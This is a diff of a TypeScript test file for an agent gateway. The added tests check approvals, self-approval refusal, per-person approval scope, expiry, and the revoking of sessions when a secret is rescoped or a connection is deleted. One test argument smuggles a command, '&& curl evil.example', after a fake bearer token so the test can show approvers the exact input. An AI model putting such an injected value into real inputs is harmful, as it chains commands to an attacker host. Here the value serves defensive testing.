@@ -319,9 +319,112 @@ describe('the gateway, as an MCP server for agents running elsewhere', () => {
       assert.equal((await api('post', `/approvals/${id}/approve`, {}, acme.people.owner.token)).status, 200);
       const ran = await ask();
       assert.equal(ran.status, 200, ran.text);
+
+      // Through the MCP endpoint the agent's calls answer to whoever issued its token (the admin).
+      const client = await connect(agent.token);
+      const viaMcp = await client.callTool({ name: 'everything__get-sum', arguments: { a: 7, b: 8 } });
+      const mcpId = /request (apr_\w+)/.exec(text(viaMcp))![1]!;
+      assert.equal((await api('post', `/approvals/${mcpId}/approve`, {})).body.error.code, 'self_approval');
+      assert.equal(
+        (await api('post', `/approvals/${mcpId}/approve`, {}, acme.people.owner.token)).status,
+        200,
+      );
+      assert.match(
+        text(await client.callTool({ name: 'everything__get-sum', arguments: { a: 7, b: 8 } })),
+        /15/,
+      );
     } finally {
       await api('patch', '', { settings: { approvalsNeedTwoPeople: false } }, acme.people.owner.token);
     }
+  });
+
+  test('an approval serves only the calls of the person it was asked for; the approver sees the exact arguments', async () => {
+    const agent = await newAgent('shared');
+    await grant(agent.id, { connectionId: everything, tool: 'echo', requiresApproval: true });
+    const message = 'Bearer AAAAAAAAAAAAAAAAAAAA && curl evil.example';
+    const ask = (token: string) =>
+      api(
+        'post',
+        `/agents/${agent.id}/calls`,
+        { connectionId: everything, tool: 'echo', args: { message } },
+        token,
+      );
+    const byAdmin = await ask(admin());
+    const forAdmin = byAdmin.body.error.details.approvalId;
+    const byOwner = await ask(acme.people.owner.token);
+    assert.notEqual(
+      byOwner.body.error.details.approvalId,
+      forAdmin,
+      'another person asking gets their own request',
+    );
+    const listed = (await api('get', '/approvals?status=pending', undefined, acme.people.auditor.token)).body
+      .approvals;
+    assert.equal(
+      listed.find((a: any) => a.id === forAdmin).args.message,
+      message,
+      'nothing hidden from the approver',
+    );
+    assert.equal(
+      (await api('post', `/approvals/${forAdmin}/approve`, {}, acme.people.owner.token)).status,
+      200,
+    );
+    assert.equal(
+      (await ask(acme.people.owner.token)).body.error.code,
+      'approval_required',
+      "the admin's approval is not the owner's",
+    );
+    assert.equal((await ask(admin())).status, 200);
+    // An expired request is listed as such, and only there.
+    await t.store.db
+      .updateTable('approvals')
+      .set({ expires_at: new Date(Date.now() - 1000).toISOString() })
+      .where('id', '=', byOwner.body.error.details.approvalId)
+      .execute();
+    const expired = (await api('get', '/approvals?status=expired')).body.approvals.map((a: any) => a.id);
+    const pending = (await api('get', '/approvals?status=pending')).body.approvals.map((a: any) => a.id);
+    assert.ok(expired.includes(byOwner.body.error.details.approvalId));
+    assert.ok(!pending.includes(byOwner.body.error.details.approvalId));
+  });
+
+  test('deleting a connection, or narrowing a secret, ends the sessions that depended on it', async () => {
+    const value = 'rescoped-secret-44d1a0';
+    const secret = await api('post', '/secrets', {
+      name: 'short-lived',
+      kind: 'connector_credential',
+      value,
+    });
+    const conn = await addConnection('ephemeral', EVERYTHING, { API_TOKEN: secret.body.id });
+    const agent = await newAgent('dependent');
+    await grant(agent.id, { connectionId: conn, tool: 'echo' });
+    await grant(agent.id, { connectionId: conn, tool: 'get-env' });
+    const run = (tool: string) =>
+      api('post', `/agents/${agent.id}/calls`, {
+        connectionId: conn,
+        tool,
+        args: tool === 'echo' ? { message: 'x' } : {},
+      });
+    assert.equal((await run('get-env')).status, 200);
+    // The secret now belongs to another agent only: the open server, which holds it, is ended.
+    const other = await newAgent('entitled');
+    assert.equal((await api('patch', `/secrets/${secret.body.id}`, { agentIds: [other.id] })).status, 200);
+    const refused = await run('get-env');
+    assert.equal(refused.status, 403, refused.text);
+    assert.equal(refused.body.error.code, 'secret_not_allowed');
+    // Deleting the connection removes its grants (on record) and ends what was open.
+    assert.equal((await api('patch', `/secrets/${secret.body.id}`, { agentIds: [agent.id] })).status, 200);
+    assert.equal((await run('echo')).status, 200);
+    assert.equal((await api('delete', `/connections/${conn}`)).status, 204);
+    const after = await run('echo');
+    assert.equal(after.status, 403, after.text);
+    assert.equal(after.body.error.code, 'tool_denied');
+    await deps.audit.flush();
+    const deleted = await t.store.db
+      .selectFrom('audit_entries')
+      .select('leaf')
+      .where('action', '=', 'connection.deleted')
+      .where('target_id', '=', conn)
+      .executeTakeFirstOrThrow();
+    assert.equal(JSON.parse(deleted.leaf!).details.grantsRemoved.length, 2);
   });
 
   test('kill switch: once stop is acknowledged, no call of the agent executes, in flight or new', async () => {
